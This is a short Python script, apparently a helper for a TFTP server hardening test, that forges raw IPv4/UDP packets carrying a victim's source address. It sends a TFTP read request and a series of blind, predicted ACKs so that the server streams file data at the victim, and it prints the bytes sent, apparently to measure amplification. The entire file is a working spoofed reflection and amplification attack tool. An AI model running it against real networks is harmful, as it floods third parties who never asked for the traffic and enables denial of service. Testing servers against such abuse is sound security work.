#!/usr/bin/env python3
"""A spoofing TFTP sender for tftp_hostile_test.sh (hostile LAN, amplification).

Sends an RRQ whose IPv4 source is the victim's address, then blind ACKs
(block numbers are predictable: 0 after an OACK, then one per window),
through a raw socket, and prints the IP bytes it sent. It never receives:
the answers go to the victim, who did not ask for them.

Usage: tftp_spoof.py VICTIM SPORT SERVER DPORT FILE ACKS WINDOW GAP_MS [OPT=VAL...]
"""
import socket
import struct
import sys
import time


def udp_ip(src, sport, dst, dport, payload):
    # UDP checksum 0: none (allowed in IPv4); the kernel fills the IP
    # header checksum and total length for IPPROTO_RAW.
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main():
    victim, sport, server, dport, name, acks, window, gap_ms = sys.argv[1:9]
    sport, dport, acks, window = int(sport), int(dport), int(acks), int(window)
    opts = [o.split("=", 1) for o in sys.argv[9:]]
    rrq = b"\x00\x01" + name.encode() + b"\x00octet\x00"
    for k, v in opts:
        rrq += k.encode() + b"\x00" + v.encode() + b"\x00"
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0

    def send(payload):
        nonlocal sent
        pkt = udp_ip(victim, sport, server, dport, payload)
        s.sendto(pkt, (server, 0))
        sent += len(pkt)

    send(rrq)
    block = 0 if opts else window
    for _ in range(acks):
        time.sleep(float(gap_ms) / 1000)
        send(struct.pack("!HH", 4, block & 0xFFFF))
        block += window
    print(sent)


if __name__ == "__main__":
    main()
